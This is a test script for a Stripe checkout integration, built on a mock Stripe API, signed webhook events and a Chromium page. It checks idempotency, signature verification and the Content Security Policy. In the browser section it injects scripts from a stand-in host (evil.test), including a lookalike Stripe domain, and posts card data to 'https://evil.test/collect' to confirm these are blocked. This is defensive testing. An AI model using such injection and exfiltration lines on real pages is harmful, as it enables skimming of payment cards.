// Pays with a server that judges requests as Stripe's API documents it, with events that the SDK's own helper signs, and
// with the page in Chromium, for which this check plays js.stripe.com.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import http from 'node:http';
import https from 'node:https';
import express from 'express';
import Stripe from 'stripe';
import { openBrowser } from './support/browser.mjs';

const CARD = '4242424242424242';
const browser = await openBrowser();

/** Stripe: the intents that it created, and the answer for each idempotency key. */
const intents = [];
const replies = new Map();
function createIntent(request, body) {
  if (request.headers.authorization !== 'Bearer sk_test_check') return [401, { type: 'invalid_request_error' }];
  if (`${request.method} ${request.url}` !== 'POST /v1/payment_intents')
    return [404, { type: 'invalid_request_error' }];
  const key = request.headers['idempotency-key'];
  const known = replies.get(key);
  if (known) return known.body === body ? known.reply : [400, { type: 'idempotency_error' }];
  const { amount, currency, ...others } = Object.fromEntries(new URLSearchParams(body));
  if (!/^[1-9]\d{0,7}$/.test(amount) || !/^[a-z]{3}$/.test(currency)) return [400, { type: 'invalid_request_error' }];
  const id = `pi_${randomUUID().replaceAll('-', '')}`;
  const metadata = { order: others['metadata[order]'] };
  const intent = { id, object: 'payment_intent', amount: Number(amount), currency, metadata };
  intents.push(intent);
  const reply = [200, { ...intent, client_secret: `${id}_secret_${randomUUID()}` }];
  if (key) replies.set(key, { body, reply });
  return reply;
}
async function answer(request, response) {
  const [status, result] = createIntent(request, Buffer.concat(await request.toArray()).toString());
  response.writeHead(status, { 'content-type': 'application/json' });
  response.end(JSON.stringify(status === 200 ? result : { error: { ...result, message: result.type } }));
}
const api = http.createServer((request, response) => void answer(request, response)).listen(0, '127.0.0.1');
await once(api, 'listening');
https.request = ({ host, port, path, method, headers }) => {
  assert.equal(host, 'api.stripe.com');
  assert.equal(Number(port), 443);
  const request = http.request({ host: '127.0.0.1', port: api.address().port, path, method, headers });
  // Earlier versions of the SDK wait for TLS.
  return request.once('socket', (socket) => socket.once('connect', () => socket.emit('secureConnect')));
};

Object.assign(process.env, {
  STRIPE_SECRET_KEY: 'sk_test_check',
  STRIPE_WEBHOOK_SECRET: 'whsec_check',
  STRIPE_PUBLISHABLE_KEY: 'pk_test_check',
});
const { addPayments } = await import('./block_1.ts');

const orders = new Map([
  ['o1', { user: 'ann', id: 'o1', totalCents: 4200, currency: 'eur' }],
  ['o2', { user: 'bob', id: 'o2', totalCents: 900, currency: 'usd' }],
]);
const paid = [];
const data = {
  async ofUser(user, id) {
    const order = orders.get(id);
    return order?.user === user ? order : undefined;
  },
  async markPaid(id, amount, currency) {
    const { totalCents, currency: expected } = orders.get(id);
    if (amount === totalCents && currency === expected && !paid.includes(id)) paid.push(id);
  },
};
const received = [];
const app = express();
app.set('views', process.cwd());
app.set('view engine', 'html');
const PAGE =
  '<body data-key="KEY" data-order="ORDER"><form id="form"><div id="card"></div><button>Pay</button></form>' +
  '<script src="https://js.stripe.com/v3/"></script><script type="module" src="/pay.js"></script></body>';
await writeFile('pay.html', PAGE);
app.engine('html', (_file, { order, publishableKey }, done) => {
  done(undefined, PAGE.replace('KEY', publishableKey).replace('ORDER', order));
});
app.use((request, _response, next) => {
  const push = request.push.bind(request);
  request.push = (chunk, encoding) => {
    received.push(String(chunk));
    return push(chunk, encoding);
  };
  received.push(request.url, JSON.stringify(request.headers));
  next();
});
addPayments(app, data, (request, response, next) => {
  const [, user] = /user=(\w+)/.exec(request.get('cookie') ?? '') ?? [];
  response.locals.user = user;
  if (user) next();
  else response.sendStatus(401);
});
app.use(express.json());
app.get('/pay.js', (_request, response) => response.sendFile('block_2.js', { root: process.cwd() }));
app.get('/thanks', (_request, response) => response.send('Thanks'));
const server = app.listen(0, '127.0.0.1');
await once(server, 'listening');
const origin = `http://127.0.0.1:${server.address().port}`;

const pay = (user, id, body) =>
  fetch(`${origin}/orders/${id}/payment`, {
    method: 'POST',
    headers: { ...(user && { cookie: `user=${user}` }), 'content-type': 'application/json' },
    body,
  });
const first = await (await pay('ann', 'o1')).json();
assert.deepEqual(Object.keys(first), ['clientSecret']);
assert.match(first.clientSecret, /^pi_\w+_secret_/);
const { id: intentId, ...intent } = intents[0];
assert.deepEqual(intent, { object: 'payment_intent', amount: 4200, currency: 'eur', metadata: { order: 'o1' } });
// A second click, and an amount of the browser's choice.
assert.deepEqual(await (await pay('ann', 'o1')).json(), first);
const cheap = JSON.stringify({ amount: 1, totalCents: 1, currency: 'huf', user: 'bob' });
assert.deepEqual(await (await pay('ann', 'o1', cheap)).json(), first);
assert.equal((await pay('ann', 'o2')).status, 404);
assert.equal((await pay('ann', 'o3')).status, 404);
assert.equal((await pay(undefined, 'o1')).status, 401);
assert.equal(intents.length, 1);
// Another total is another payment; Stripe would refuse the same key for it.
orders.get('o1').totalCents = 5000;
assert.notDeepEqual(await (await pay('ann', 'o1')).json(), first);
assert.deepEqual(
  intents.map(({ amount }) => amount),
  [4200, 5000],
);

const sdk = new Stripe('sk_test_check');
const eventOf = (changes = {}, type = 'payment_intent.succeeded') => {
  const object = { id: intentId, object: 'payment_intent', amount_received: 5000, currency: 'eur', ...changes };
  // Spaces and line breaks are part of what is signed.
  return JSON.stringify(
    { id: 'evt_1', object: 'event', type, data: { object: { metadata: { order: 'o1' }, ...object } } },
    null,
    2,
  );
};
const sign = (payload, options) =>
  sdk.webhooks.generateTestHeaderString({ payload, secret: process.env.STRIPE_WEBHOOK_SECRET, ...options });
const send = async (payload, signature, type = 'application/json; charset=utf-8') => {
  const headers = { 'content-type': type, ...(signature && { 'stripe-signature': signature }) };
  return (await fetch(`${origin}/stripe-events`, { method: 'POST', headers, body: payload })).status;
};
const seconds = Math.floor(Date.now() / 1000);
const payload = eventOf();
for (const [name, body, signature, type] of [
  ['no signature', payload],
  ['an empty signature', payload, ''],
  ['another secret', payload, sign(payload, { secret: 'whsec_other' })],
  ['an empty secret', payload, sign(payload, { secret: '' })],
  ['another event', payload, sign(eventOf({ amount_received: 1 }))],
  ['other spaces', JSON.stringify(JSON.parse(payload)), sign(payload)],
  ['an old event', payload, sign(payload, { timestamp: seconds - 3600 })],
  ['an old event with a new time', payload, sign(payload, { timestamp: seconds - 3600 }).replace(/\d+/, seconds)],
  ['another type', payload, sign(payload), 'text/plain'],
])
  assert.equal(await send(body, signature, type), 400, name);
assert.deepEqual(paid, []);
for (const other of [
  eventOf({}, 'payment_intent.payment_failed'),
  eventOf({ metadata: {} }),
  eventOf({ amount_received: 1 }),
  eventOf({ currency: 'huf' }),
])
  assert.equal(await send(other, sign(other)), 204);
assert.deepEqual(paid, []);
for (const attempt of [1, 2]) assert.equal(await send(payload, sign(payload)), 204, String(attempt));
assert.deepEqual(paid, ['o1']);

// The page: a frame of Stripe's takes the number, and the server gets none.
assert.equal((await fetch(`${origin}/pay/o1`)).status, 401);
const page = await browser.newPage();
const violations = [];
const loaded = [];
const errors = [];
page.on('pageerror', (error) => errors.push(error.message));
await page.exposeFunction('reportViolation', (text) => violations.push(text));
await page.addInitScript(() =>
  addEventListener('securitypolicyviolation', (event) =>
    reportViolation(`${event.violatedDirective} ${event.blockedURI}`),
  ),
);
const STRIPE_JS = `globalThis.Stripe = (key) => ({
  elements: ({ clientSecret }) => ({
    clientSecret,
    create: (kind) => ({
      mount: (where) => document.querySelector(where).append(
        Object.assign(document.createElement('iframe'), { src: 'https://js.stripe.com/v3/' + kind + '.html' }),
      ),
    }),
  }),
  async confirmPayment({ elements, confirmParams }) {
    frames[0].postMessage({ key, clientSecret: elements.clientSecret }, 'https://js.stripe.com');
    await new Promise((resolve) => addEventListener('message', ({ origin }) => origin === 'https://js.stripe.com' && resolve()));
    location = confirmParams.return_url;
  },
});`;
const FRAME = `<input name="number"><script>addEventListener('message', async ({ data, source, origin }) => {
  const body = new URLSearchParams({ ...data, number: document.querySelector('input').value });
  await fetch('https://api.stripe.com/v1/confirm', { method: 'POST', body, mode: 'no-cors' });
  source.postMessage('done', origin);
});</script>`;
const confirmed = [];
await page.route(/^https:/, (route) => {
  const url = route.request().url();
  loaded.push(url);
  if (url === 'https://js.stripe.com/v3/') return route.fulfill({ contentType: 'text/javascript', body: STRIPE_JS });
  if (url === 'https://js.stripe.com/v3/payment.html') return route.fulfill({ contentType: 'text/html', body: FRAME });
  if (url === 'https://api.stripe.com/v1/confirm') confirmed.push(route.request().postData());
  return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.stolen = true;' });
});
await page.context().addCookies([{ name: 'user', value: 'ann', url: origin }]);
const answered = await page.goto(`${origin}/pay/o1`);
const headers = answered.headers();
const [, group, endpoint] = /^(\w+)="(\/[\w-]+)"$/.exec(headers['reporting-endpoints']);
assert.equal(endpoint, '/csp-reports');
assert.match(headers['content-security-policy'], new RegExp(`report-to ${group}$`));
await page.frameLocator('iframe').locator('input').fill(CARD);
assert.deepEqual(violations, []);

// Scripts, frames and requests of others, and scripts in the page itself.
await page.evaluate(async () => {
  const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
  add('script', { src: 'https://evil.test/a.js' });
  add('script', { src: 'https://js.stripe.com.evil.test/a.js' });
  add('script', { text: 'globalThis.stolen = true;' });
  add('iframe', { src: 'https://evil.test/form.html' });
  await fetch('https://evil.test/collect', { method: 'POST', body: 'number' }).catch(() => {});
});
for (let tries = 0; violations.length < 5 && tries < 100; tries += 1) await page.waitForTimeout(50);
assert.equal(await page.evaluate(() => globalThis.stolen), undefined);
assert.deepEqual(
  new Set(violations),
  new Set([
    'connect-src https://evil.test/collect',
    'frame-src https://evil.test',
    'script-src-elem https://evil.test/a.js',
    'script-src-elem https://js.stripe.com.evil.test/a.js',
    'script-src-elem inline',
  ]),
);
assert.ok(
  loaded.every((url) => /^https:\/\/(js|api)\.stripe\.com\//.test(url)),
  String(loaded),
);

await page.getByRole('button', { name: 'Pay' }).click();
await page.waitForURL(`${origin}/thanks`);
const [sent] = confirmed.map((text) => Object.fromEntries(new URLSearchParams(text)));
assert.equal(sent.number, CARD);
assert.equal(sent.key, 'pk_test_check');
assert.ok(sent.clientSecret.startsWith(`${intents[1].id}_secret_`));
assert.equal(intents.length, 2);
assert.deepEqual(errors, []);
assert.ok(received.includes('/orders/o1/payment') && received.includes(payload));
assert.ok(!received.join('\n').includes(CARD));
await browser.close();
server.close();
server.closeAllConnections();
api.close();
api.closeAllConnections();
